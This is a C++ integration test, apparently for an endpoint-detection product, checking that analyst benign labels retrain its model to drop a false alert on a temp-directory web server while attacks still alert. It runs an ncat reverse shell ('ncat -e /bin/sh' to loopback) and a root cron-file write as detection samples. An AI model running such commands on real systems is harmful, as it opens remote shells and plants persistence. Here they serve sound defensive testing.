// Fleet learning end to end (docs/learning.md, "Fleet learning data"): a real
// vigil-collector learning from the fleet's data beside the shipped scenario
// recordings, and real vigil-agent processes (root) connected to it.
//   - A recurring false alert of the shipped model: a developer's web server
//     run from a temporary directory (`python3 -m http.server` from a copy of
//     python3 there, as a throwaway environment has it) on a port this host
//     never listened on raises novel-listener (severity 30), which the model
//     lifts above 50 (a program in a writable location listening on a new
//     port looks like a dropped backdoor: 59-65 measured). It happens 8 times
//     on host A; an analyst labels each alert benign (SubmitFeedback).
//   - An evolution run learns from those labels (the model's own verdicts are
//     no labels), its candidate passes the collector's acceptance, goes to A
//     as a canary (signed by the collector) and to the fleet once released
//     with the operators' release key.
//   - Host B, a fresh agent that joins the fleet then and never saw a label,
//     runs the new model: the same activity on a fresh port scores below 50
//     there, while a cron write and a reverse shell still alert. (On A the
//     label itself already silences it: benign feedback suppresses the
//     indicator for that executable on the host that raised the alert, which
//     says nothing about the model.)
#include <arpa/inet.h>
#include <grpcpp/grpcpp.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <cmath>
#include <fstream>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>
#include <thread>

#include "util/fleet.h"
#include "util/net.h"
#include "util/proc.h"
#include "util/test_util.h"
#include "vigil/clock.h"
#include "vigil/features.h"
#include "vigil/v1/model.grpc.pb.h"
#include "vigil/v1/query.grpc.pb.h"

namespace {

using namespace std::chrono_literals;
using vigil::test::Proc;
using vigil::test::slurp;
using vigil::test::wait_until;
using Json = nlohmann::json;
namespace fs = std::filesystem;

constexpr const char* kHostA = "learn-a";
constexpr const char* kHostB = "learn-b";

// A port nothing listens on now: the kernel's choice for a bound socket,
// released at once (never listened on, so the agent sees no listen of ours).
int fresh_port() {
  const int s = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t len = sizeof(a);
  const bool ok = bind(s, reinterpret_cast<sockaddr*>(&a), sizeof(a)) == 0 &&
                  getsockname(s, reinterpret_cast<sockaddr*>(&a), &len) == 0;
  close(s);
  return ok ? ntohs(a.sin_port) : -1;
}

bool can_connect(int port) {
  const int s = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<std::uint16_t>(port));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  const bool ok = connect(s, reinterpret_cast<sockaddr*>(&a), sizeof(a)) == 0;
  close(s);
  return ok;
}

// The false alert's activity: an ad-hoc web server run by `python` (a copy
// of python3 in a temp dir) on `port`, up until it answers, then stopped.
bool serve_http(const fs::path& dir, const fs::path& python, int port) {
  const auto run_dir = dir / ("http-" + std::to_string(port));
  fs::create_directories(run_dir);
  Proc server({python.string(), "-m", "http.server", std::to_string(port), "--bind", "127.0.0.1"},
              run_dir);
  const bool up = wait_until([&] { return can_connect(port); }, 10s);
  std::this_thread::sleep_for(500ms);
  kill(server.pid(), SIGTERM);
  server.wait();
  return up;
}

// The stored listen event of the web server on `port`, once the collector has it.
std::optional<vigil::v1::Event> listen_event(const std::string& addr, const std::string& agent,
                                             int port, std::uint64_t since_ns) {
  vigil::v1::QueryEventsRequest req;
  req.set_agent_id(agent);
  req.set_type("listen");
  req.set_since_ns(since_ns);
  req.set_limit(10000);
  for (;;) {
    grpc::ClientContext ctx;
    ctx.set_deadline(std::chrono::system_clock::now() + 10s);
    vigil::v1::QueryEventsResponse resp;
    if (!vigil::test::query(addr)->QueryEvents(&ctx, req, &resp).ok()) return std::nullopt;
    for (const auto& se : resp.events()) {
      const auto& e = se.event();
      if (e.exe().ends_with("/devserver") && e.has_socket() &&
          e.socket().lport() == static_cast<unsigned>(port)) {
        return e;
      }
    }
    if (resp.next_page_token().empty()) return std::nullopt;
    req.set_page_token(resp.next_page_token());
  }
}

// "score@level" of a stored event, "+focus" when it was in the attention focus.
std::string context_of(const vigil::v1::Event& e) {
  float level = 0;
  bool focus = false;
  for (int i = 0; i < e.feature_slots_size(); ++i) {
    if (e.feature_slots(i) == vigil::kAwarenessLevel) level = e.feature_values(i);
    if (e.feature_slots(i) == vigil::kInFocus) focus = e.feature_values(i) > 0;
  }
  static constexpr const char* kLevels[] = {"calm", "attentive", "alert", "critical"};
  std::string out = std::to_string(e.score()) + "@" + kLevels[std::lround(level * 3)] +
                    (focus ? "+focus" : "") + " port " + std::to_string(e.socket().lport());
  for (const auto& h : e.indicators()) out += " " + h.id();
  return out;
}

// Alert lines of the agent after line `from` that carry `indicator`.
std::vector<Json> alerts_after(const vigil::test::AgentProc& agent, std::size_t from,
                               const std::string& indicator) {
  std::vector<Json> out;
  const auto lines = agent.alert_lines();
  for (std::size_t i = from; i < lines.size(); ++i) {
    for (const auto& h : lines[i].value("indicators", Json::array())) {
      if (h.value("id", "") == indicator) {
        out.push_back(lines[i]);
        break;
      }
    }
  }
  return out;
}

int vigilctl(const fs::path& dir, const std::string& collector,
             const std::vector<std::string>& args, std::string* out = nullptr) {
  return vigil::test::run_vigilctl(VIGILCTL_BIN, dir, collector, args, out);
}

std::string agent_model(const std::string& addr, const std::string& agent) {
  grpc::ClientContext ctx;
  ctx.set_deadline(std::chrono::system_clock::now() + 5s);
  vigil::v1::ListAgentsResponse resp;
  if (!vigil::test::query(addr)->ListAgents(&ctx, {}, &resp).ok()) return {};
  for (const auto& a : resp.agents()) {
    if (a.agent_id() == agent && a.connected()) return a.model_version();
  }
  return {};
}

// Waits out an agent's baseline warm-up (20 s), starting `python` once in
// it: that this process starts it is then known, so the server's exec is no
// novel parent/child pair and its listen is the only novelty.
void warm_up(const fs::path& dir, const fs::path& python) {
  fs::create_directories(dir / "warm");
  Proc py({python.string(), "-c", "pass"}, dir / "warm");
  py.wait();
  std::this_thread::sleep_for(22s);
}

// A cron entry written by a shell this process starts (removed at once).
bool write_cron(const fs::path& dir, const std::string& tag) {
  const std::string path = "/etc/cron.d/vigil-fleet-learning-" + tag;
  const auto run_dir = dir / ("cron-" + tag);
  fs::create_directories(run_dir);
  Proc sh({"/bin/sh", "-c", "echo '* * * * * root true' > " + path}, run_dir);
  const bool ok = sh.wait() == 0;
  fs::remove(path);
  return ok;
}

TEST(FleetLearning, BenignLabelsOnARecurringFalseAlertUnlearnItWhileAttacksStillAlert) {
  REQUIRE_ROOT_OR_SKIP();
  ASSERT_TRUE(fs::exists("/usr/bin/python3")) << "python3 is missing";
  ASSERT_TRUE(fs::exists("/usr/bin/ncat")) << "ncat is missing: sudo deploy/install-deps.sh";
  vigil::test::TempDir dir;
  // The developer's throwaway environment: python3 copied into a temp dir.
  const auto python = dir.path() / "venv" / "devserver";
  fs::create_directories(python.parent_path());
  fs::copy_file("/usr/bin/python3", python);
  // The operators' offline release key; the collector gets its public half.
  const auto release_key = dir.path() / "release.key";
  {
    Proc keygen({VIGILCTL_BIN, "models", "keygen", "--out", release_key.string()}, dir.path());
    ASSERT_EQ(keygen.wait(), 0) << keygen.err();
  }
  std::string release_pub = slurp(release_key.string() + ".pub");
  release_pub.erase(release_pub.find_last_not_of('\n') + 1);
  ASSERT_EQ(release_pub.size(), 64U);
  // Evolution only on request, small enough for a test, on the shipped
  // scenario recordings plus the fleet's data. The canary gate compares
  // canary with control agents; this fleet has one agent, so the gate checks
  // only that it runs the canary (the gate's own tests cover the comparison).
  const auto config = dir.path() / "collector.yaml";
  std::ofstream(config) << "evolve_interval_s: 0\n"
                        << "evolve_feedback_trigger: 0\n"
                        << "evolve_population: 100\n"
                        << "evolve_generations: 80\n"
                        << "evolve_workers: 4\n"
                        << "evolve_ensemble: 4\n"
                        << "evolve_scenario_dataset: " << VIGIL_SOURCE_DIR
                        << "/models/dataset.vds\n"
                        << "canary_gate: false\n";
  vigil::test::CollectorProc collector(
      dir.path() / "collector",
      {"--config", config.string(), "--model-release-pubkey", release_pub});
  ASSERT_TRUE(collector.start()) << collector.err();
  const auto pub_path = dir.path() / "collector" / "data" / "model-signing.key.pub";
  ASSERT_TRUE(wait_until([&] { return fs::exists(pub_path); }, 5s));
  std::string pub = slurp(pub_path);
  pub.erase(pub.find_last_not_of('\n') + 1);

  const std::vector<std::string> agent_flags = {"--probes",
                                                "process,network,memory,file",
                                                "--baseline-warmup",
                                                "20",
                                                "--alert-threshold",
                                                "50",
                                                "--model-pubkey",
                                                pub,
                                                "--model-release-pubkey",
                                                release_pub};
  auto a =
      std::make_unique<vigil::test::AgentProc>(dir.path(), kHostA, collector.addr(), agent_flags);
  ASSERT_TRUE(a->connected()) << a->err();
  std::string shipped;
  ASSERT_TRUE(
      wait_until([&] { return !(shipped = agent_model(collector.addr(), kHostA)).empty(); }, 20s));
  warm_up(dir.path(), python);
  // A public scenario first: a cron write by a direct child alerts (its
  // parent, this process, joins the attention focus, so the servers it
  // starts are in focus; the model lifts their listens in or out of it).
  ASSERT_TRUE(write_cron(dir.path(), "a"));
  ASSERT_TRUE(wait_until([&] { return !alerts_after(*a, 0, "cron-write").empty(); }, 15s))
      << slurp(a->alerts());

  // The recurring false alert, then the analyst's verdict on each.
  constexpr int kRepeats = 8;
  constexpr int kAttempts = 16;
  const std::uint64_t t0 = vigil::unix_now_ns();
  std::vector<std::string> before;  // what the shipped model scored, for the report
  int false_alerts = 0;
  std::set<std::string> raised;  // alerts the listens raised (the agent merges close repeats)
  for (int i = 0; i < kAttempts && false_alerts < kRepeats; ++i) {
    const int port = fresh_port();
    ASSERT_GT(port, 0);
    ASSERT_TRUE(serve_http(dir.path(), python, port));
    std::optional<vigil::v1::Event> e;
    ASSERT_TRUE(wait_until(
        [&] { return (e = listen_event(collector.addr(), kHostA, port, t0)).has_value(); }, 20s))
        << "the listen on " << port << " never reached the collector\n"
        << a->err();
    before.push_back(context_of(*e));
    if (!e->alert_id().empty()) {
      ++false_alerts;
      raised.insert(std::string(kHostA) + ":" + e->alert_id());  // the collector's alert id
    }
  }
  ASSERT_EQ(false_alerts, kRepeats) << "the shipped model did not alert on the server often "
                                       "enough; scores: "
                                    << testing::PrintToString(before);
  std::set<std::string> labelled;
  for (const auto* id : {"novel-listener", "python-http-server"}) {
    for (const auto& alert : vigil::test::alerts_with(collector.addr(), id)) {
      if (alert.event().exe().ends_with("/devserver") && labelled.insert(alert.id()).second) {
        ASSERT_TRUE(
            vigil::test::label(collector.addr(), alert.id(), "benign", "a dev server").ok());
      }
    }
  }
  for (const auto& id : raised) EXPECT_TRUE(labelled.contains(id)) << id << " not labelled";

  // Evolution on demand (`vigilctl models evolve --wait`), then its candidate.
  // A run evolves from a new seed on a new held-out split each time; one whose
  // candidate the acceptance rule refuses is reported, and the next tries again.
  constexpr int kRuns = 3;
  std::string out;
  Json list;
  std::vector<std::string> results;
  for (int run = 0; run < kRuns; ++run) {
    std::this_thread::sleep_for(1s);  // a new seed (seconds)
    ASSERT_EQ(vigilctl(dir.path(), collector.addr(), {"models", "evolve", "--wait"}, &out), 0)
        << out;
    ASSERT_EQ(vigilctl(dir.path(), collector.addr(), {"--json", "models", "list"}, &out), 0) << out;
    list = Json::parse(out, nullptr, false);
    ASSERT_FALSE(list.is_discarded()) << out;
    results.push_back(list["evolution"].value("last_result", ""));
    std::fprintf(stderr, "evolution run %d: %s\n", run + 1, results.back().c_str());
    if (results.back().find("registered candidate") != std::string::npos) break;
  }
  {
    std::istringstream log(collector.err());
    for (std::string line; std::getline(log, line);) {
      if (line.find("evolution data:") != std::string::npos) {
        std::fprintf(stderr, "%s\n", line.c_str());
      }
    }
  }
  std::fprintf(stderr, "shipped model on the server: %s\n", testing::PrintToString(before).c_str());
  ASSERT_NE(results.back().find("registered candidate"), std::string::npos)
      << "no candidate passed acceptance in " << kRuns
      << " runs: " << testing::PrintToString(results);
  std::string candidate;
  for (const auto& m : list["models"]) {
    if (m.value("state", "") == "candidate") candidate = m.value("version", "");
  }
  ASSERT_FALSE(candidate.empty()) << out;

  // Canary (the collector's signature), then the fleet (the release key).
  ASSERT_EQ(vigilctl(dir.path(), collector.addr(),
                     {"models", "rollout", candidate, "--canary", "1", "--soak", "10"}, &out),
            0)
      << out;
  ASSERT_TRUE(wait_until([&] { return agent_model(collector.addr(), kHostA) == candidate; }, 20s))
      << "A did not take the canary: " << a->err();
  // The soak ends, the canary is healthy and stays, waiting for its release.
  ASSERT_TRUE(wait_until(
      [&] {
        return vigilctl(dir.path(), collector.addr(), {"models", "status"}, &out) == 0 &&
               out.find("waiting for a release signature") != std::string::npos;
      },
      30s))
      << out << collector.err();
  ASSERT_EQ(vigilctl(dir.path(), collector.addr(),
                     {"models", "sign", "--key", release_key.string(), candidate}, &out),
            0)
      << out;
  ASSERT_TRUE(wait_until(
      [&] {
        return vigilctl(dir.path(), collector.addr(), {"--json", "models", "status"}, &out) == 0 &&
               Json::parse(out, nullptr, false).value("phase", "") == "fleet";
      },
      30s))
      << out;

  // Host B joins the fleet and is brought to the released model.
  vigil::test::AgentProc b(dir.path(), kHostB, collector.addr(), agent_flags);
  ASSERT_TRUE(b.connected()) << b.err();
  ASSERT_TRUE(wait_until([&] { return agent_model(collector.addr(), kHostB) == candidate; }, 20s))
      << b.err();
  warm_up(dir.path(), python);
  // The same context as on A: a cron write first (it must still alert), so
  // the server below is in the attention focus again.
  ASSERT_TRUE(write_cron(dir.path(), "b"));
  ASSERT_TRUE(wait_until([&] { return !alerts_after(b, 0, "cron-write").empty(); }, 15s))
      << "cron-write no longer alerts with " << candidate << ":\n"
      << slurp(b.alerts());
  EXPECT_GE(alerts_after(b, 0, "cron-write").front()["score"].get<int>(), 50);

  // The same activity on a fresh port: no longer an alert.
  const std::uint64_t t1 = vigil::unix_now_ns();
  const int port = fresh_port();
  ASSERT_TRUE(serve_http(dir.path(), python, port));
  std::optional<vigil::v1::Event> after;
  ASSERT_TRUE(wait_until(
      [&] { return (after = listen_event(collector.addr(), kHostB, port, t1)).has_value(); }, 20s));
  std::fprintf(stderr, "with %s on B: %s\n", candidate.c_str(), context_of(*after).c_str());
  EXPECT_TRUE(std::ranges::any_of(after->indicators(),
                                  [](const auto& h) { return h.id() == "novel-listener"; }))
      << "B saw the listen as new, as A did: " << context_of(*after);
  EXPECT_LT(after->score(), 50U) << "with " << candidate << ": " << context_of(*after)
                                 << "; the shipped model on A: " << testing::PrintToString(before);
  EXPECT_TRUE(after->alert_id().empty());

  // A reverse shell still alerts.
  {
    const vigil::test::LoopbackListener srv;
    ASSERT_TRUE(srv.ok());
    const auto run_dir = dir.path() / "ncat";
    fs::create_directories(run_dir);
    Proc ncat(
        {"/usr/bin/ncat", "-e", "/bin/sh", "127.0.0.1", std::to_string(ntohs(srv.addr.sin_port))},
        run_dir);
    const int conn = accept(srv.fd, nullptr, nullptr);
    ASSERT_GE(conn, 0) << "ncat never connected";
    std::this_thread::sleep_for(1s);
    const std::string cmds = "id\nexit\n";
    EXPECT_EQ(write(conn, cmds.data(), cmds.size()), static_cast<ssize_t>(cmds.size()));
    EXPECT_EQ(ncat.wait(), 0);
    close(conn);
  }
  ASSERT_TRUE(wait_until([&] { return !alerts_after(b, 0, "reverse-shell").empty(); }, 15s))
      << "reverse-shell no longer alerts with " << candidate << ":\n"
      << slurp(b.alerts());
  EXPECT_GE(alerts_after(b, 0, "reverse-shell").front()["score"].get<int>(), 50);
  EXPECT_TRUE(alerts_after(b, 0, "novel-listener").empty()) << slurp(b.alerts());
}

}  // namespace
